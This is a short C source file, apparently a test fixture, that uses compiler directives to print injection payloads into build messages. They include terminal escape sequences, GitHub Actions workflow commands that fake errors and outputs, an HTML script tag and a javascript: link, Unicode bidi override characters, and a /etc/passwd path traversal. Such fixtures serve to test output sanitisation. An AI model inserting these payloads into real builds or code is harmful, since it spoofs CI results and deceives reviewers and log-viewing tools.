// SPDX-License-Identifier: MIT
// Writes into the compiler's messages what a terminal, a web page or a log would obey.
#include "attack.h"

#pragma message "\033[31m\033]0;owned\007"
#pragma message "::error file=x::owned"
#pragma message "<script>alert(1)</script> [x](javascript:x) \r\u202e\u2066"
#warning ::set-output name=points::7
#line 7 "\033[2J/../../etc/passwd"
static void attack(void) { int \u202e; }
